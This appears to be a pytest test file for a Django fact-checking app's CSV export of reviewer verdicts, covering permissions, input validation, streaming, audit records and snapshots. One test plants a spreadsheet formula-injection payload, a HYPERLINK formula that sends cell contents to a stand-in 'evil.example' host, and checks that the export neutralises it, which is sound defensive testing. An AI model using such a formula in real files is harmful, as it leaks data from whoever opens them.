"""Taking verdicts along: what each person gets, and in what shape."""

import hashlib
import logging
import re
from datetime import date

import pytest
from django.conf import settings
from django.db import connection
from django.test import Client, RequestFactory
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from claims.actions.review import undo_decision
from claims.actions.sign_off import sign_off
from claims.models import Claim, Cluster, ExportRun, Reviewer
from claims.models.clock import database_now
from claims.readers.verdict_csv import read_verdict_csv
from claims.records import EvidenceInput
from claims.text.normal import fold
from claims.views.export import download_verdicts
from tests.factories import decide, make_claim, make_cluster, make_source

pytestmark = pytest.mark.django_db
ADDRESS = "/export/verdicts.csv"


def download(client: Client, what: str, as_of: str = "") -> list[dict[str, str]]:
    response = client.post(ADDRESS, {"what": what, "as_of": as_of})
    assert response.status_code == 200
    return read_verdict_csv(response.getvalue())


def test_a_lead_gets_the_outcome_of_every_claim_decided(as_lea: Client, ada: Reviewer, ben: Reviewer) -> None:
    decide(make_cluster("The dam broke."), ada, "unverified")
    decide(make_cluster("The dam held."), ben, "consistent")
    make_cluster("Nobody looked at this.")
    rows = download(as_lea, "desk")
    assert [(row["claim"], row["label"], row["reviewer"]) for row in rows] == [
        ("The dam broke.", "unverified", "ada"),
        ("The dam held.", "consistent", "ben"),
    ]


def test_a_lead_may_ask_for_every_claim_and_for_every_reviewer(as_lea: Client, ada: Reviewer) -> None:
    decide(make_cluster("The dam broke."), ada)
    make_cluster("Nobody looked at this.")
    assert [row["status"] for row in download(as_lea, "every")] == ["decided", "pending"]
    (row,) = download(as_lea, "reviewers")
    assert (row["reviewer"], row["label"], row["final_label"]) == ("ada", "consistent", "consistent")
    assert len(download(as_lea, "everybody")) == 2


def test_a_reviewer_gets_only_what_they_decided_themselves(
    as_ada: Client, ada: Reviewer, ben: Reviewer
) -> None:
    decide(make_cluster("The dam broke."), ada, note="mine")
    decide(make_cluster("The dam held."), ben, note="not hers")
    for what in ("own", "own_outcome"):
        rows = download(as_ada, what)
        assert [(row["claim"], row["note"]) for row in rows] == [("The dam broke.", "mine")]
    for what in ("outside", "desk", "every", "reviewers", "everybody"):
        assert as_ada.post(ADDRESS, {"what": what}).status_code == 403
    assert set(ExportRun.objects.values_list("scope", flat=True)) == {"own"}


def test_strangers_are_sent_to_sign_in(anonymous: Client) -> None:
    for response in (anonymous.post(ADDRESS, {"what": "desk"}), anonymous.get("/export/")):
        assert response.status_code == 302
        assert response.headers["Location"].startswith("/sign-in/")


@pytest.mark.parametrize(
    "sent",
    [
        {},
        {"what": "all"},
        {"what": "desk\0"},
        {"what": "9" * 10_000},
        {"what": "desk", "as_of": "yesterday"},
        {"what": "desk", "as_of": "2999-01-01"},
        {"what": "desk", "as_of": "0001-01-01T00:00+23:59"},
        {"what": "desk", "as_of": "9999-12-31T23:59:59-23:59"},
        {"what": "desk", "as_of": "2024-02-30"},
        {"what": "desk", "as_of": "2024-02-03T\0"},
    ],
)
def test_odd_choices_are_refused_in_words(as_lea: Client, sent: dict[str, str]) -> None:
    make_cluster("The dam broke.")
    response = as_lea.post(ADDRESS, sent)
    assert response.status_code == 422
    assert 'role="alert"' in response.content.decode()
    assert not ExportRun.objects.exists()


def test_the_file_is_streamed_under_a_safe_name_with_the_date(as_lea: Client, as_ada: Client) -> None:
    response = as_lea.post(ADDRESS, {"what": "desk"})
    assert response.streaming
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert response.headers["Cache-Control"] == "no-store"
    name = re.fullmatch(r'attachment; filename="verdicts-(.+)\.csv"', response.headers["Content-Disposition"])
    assert name
    assert date.fromisoformat(name[1]) == timezone.localdate()
    assert 'filename="my-verdicts-' in as_ada.post(ADDRESS, {"what": "own"}).headers["Content-Disposition"]


def test_formulas_are_guarded_in_the_file_and_come_back_as_typed(as_lea: Client, ada: Reviewer) -> None:
    formula = '=HYPERLINK("http://evil.example?x="&A1,"click")'
    source = make_source("-5 degrees were measured.", title=formula, publisher="@home")
    claim = make_claim(source=source)
    evidence = EvidenceInput(stance="supports", url="https://a.example", title=formula, passage="fine\n+1")
    decide(claim.cluster, ada, note=f"seen\n{formula}", evidence=[evidence])
    response = as_lea.post(ADDRESS, {"what": "desk"})
    content = response.getvalue()
    plain = content.decode().replace('""', '"')
    assert f"'{formula}" in plain
    assert f"seen\n'{formula}" in plain
    assert not re.search(r'(^|,|\n|")[=+@-]', plain.replace('x="&', ""))
    (row,) = read_verdict_csv(content)
    assert (row["source_title"], row["publisher"], row["claim"]) == (formula, "@home", source.text)
    assert row["note"] == f"seen\n{formula}"
    assert row["evidence"] == f"supports https://a.example | {formula} |  | fine +1"


def many_decided(count: int, reviewer: Reviewer) -> None:
    text = "\n".join(f"Gauge number {number} rose." for number in range(count))
    source, cluster = make_source(text), Cluster.objects.create()
    start = 0
    claims = []
    for line in text.split("\n"):
        claims.append(
            Claim(
                source=source,
                text=line,
                start=start,
                end=start + len(line),
                folded=fold(line),
                check_worthiness=0.5,
                cluster=cluster,
            )
        )
        start += len(line) + 1
    Claim.objects.bulk_create(claims)
    decide(cluster, reviewer)


def test_two_thousand_rows_come_whole_with_four_queries_for_each_five_hundred(
    as_lea: Client, ada: Reviewer
) -> None:
    many_decided(2_000, ada)
    with CaptureQueriesContext(connection) as queries:
        response = as_lea.post(ADDRESS, {"what": "desk"})
        rows = read_verdict_csv(response.getvalue())
    assert len(rows) == 2_000
    assert [int(row["claim_id"]) for row in rows] == sorted(int(row["claim_id"]) for row in rows)
    # session, person; on SQLite the moment's begin and end; the clock; four chunks of claims, verdicts,
    # evidence, against; a last look for claims; the run written down
    inside = [query for query in queries if query["sql"].startswith("SELECT") and "claims_" in query["sql"]]
    assert len(inside) == 1 + 4 * 4 + 1


def test_a_client_that_stops_reading_holds_nothing_of_the_database(
    committed_db: object, lea: Reviewer, ada: Reviewer
) -> None:
    decide(make_cluster("The dam broke."), ada)
    request = RequestFactory().post(ADDRESS, {"what": "desk"})
    request.user = lea
    response = download_verdicts(request)  # type: ignore[arg-type]
    assert not connection.in_atomic_block
    decide(make_cluster("Written while the file is unread."), ada)
    file = response.file_to_stream  # type: ignore[attr-defined]
    assert file is not None
    assert not file.closed
    response.close()
    assert file.closed


def test_a_download_is_written_down_with_what_it_held(
    as_lea: Client, lea: Reviewer, ada: Reviewer, caplog: pytest.LogCaptureFixture
) -> None:
    decide(make_cluster("The dam broke."), ada)
    begun_at = database_now()
    with caplog.at_level(logging.INFO, "claims.audit"):
        content = as_lea.post(ADDRESS, {"what": "desk"}).getvalue()
    run = ExportRun.objects.get()
    assert (run.by, run.scope, run.row_count) == (lea, "desk", 1)
    assert run.sha256 == hashlib.sha256(content).hexdigest()
    assert begun_at <= run.as_of == run.at <= database_now()
    assert caplog.messages == [
        f"export run={run.pk} by={lea.pk} scope=desk as_of={run.as_of.isoformat()} rows=1"
    ]
    page = as_lea.get("/export/").content.decode()
    assert run.sha256 in page
    assert "lea" in page


def test_reading_neither_downloads_nor_writes(as_lea: Client) -> None:
    assert as_lea.get(ADDRESS).status_code == 405
    assert as_lea.post("/export/").status_code == 405
    assert not ExportRun.objects.exists()


def test_a_file_as_of_an_earlier_moment_says_so(as_lea: Client, ada: Reviewer) -> None:
    cluster = make_cluster("The dam broke.")
    first = decide(cluster, ada, "unverified").decision
    undo_decision(decision_id=first.pk, by=ada, idempotency_key="undo", at=database_now())
    decide(cluster, ada, "consistent")
    then = first.decided_at.isoformat()
    (row,) = download(as_lea, "desk", as_of=then)
    assert (row["label"], row["status"]) == ("unverified", "decided")
    assert row["as_of"] == first.decided_at.isoformat(timespec="seconds").replace("+00:00", "Z")
    response = as_lea.post(ADDRESS, {"what": "desk", "as_of": then})
    assert "verdicts-as-of-" in response.headers["Content-Disposition"]
    assert ExportRun.objects.latest("id").as_of == first.decided_at
    assert [row["label"] for row in download(as_lea, "desk")] == ["consistent"]


def test_only_what_is_signed_off_goes_outside_and_names_nobody(
    as_lea: Client, lea: Reviewer, ada: Reviewer
) -> None:
    signed, other = make_cluster("The dam broke."), make_cluster("The dam held.")
    for cluster in (signed, other):
        decide(cluster, ada)
    claim = signed.claims.get()
    sign_off(verdicts={claim.pk: claim.verdict_id or 0}, by=lea, at=database_now())
    (row,) = download(as_lea, "outside")
    assert (row["claim"], row["desk"]) == ("The dam broke.", settings.DESK_NAME)
    assert row["signed_off"]
    assert "reviewer" not in row
    assert not {"ada", "lea"} & set(row.values())


def test_the_page_offers_a_lead_every_choice(as_lea: Client, ada: Reviewer) -> None:
    decide(make_cluster("The dam broke."), ada)
    page = as_lea.get("/export/").content.decode()
    for what in ("outside", "desk", "every", "reviewers"):
        assert f'name="what" value="{what}"' in page
    assert "<code>check_worthiness</code>" in page


def test_the_page_offers_a_reviewer_their_own_verdicts_once_there_are_some(
    as_ada: Client, ada: Reviewer
) -> None:
    cluster = make_cluster("The dam broke.")
    page = as_ada.get("/export/").content.decode()
    assert "You have not decided on any claim yet." in page
    decide(cluster, ada)
    page = as_ada.get("/export/").content.decode()
    assert "My verdicts" in page
    assert 'value="every"' not in page


def test_the_page_of_an_empty_desk_says_what_to_do(as_lea: Client) -> None:
    assert "There are no claims yet." in as_lea.get("/export/").content.decode()


def test_the_page_takes_eight_queries(as_lea: Client) -> None:
    with CaptureQueriesContext(connection) as queries:
        assert as_lea.get("/export/").status_code == 200
    # session, person, who mentions them; claims, those decided, signed off, decided by oneself; what left
    assert len(queries) == 8
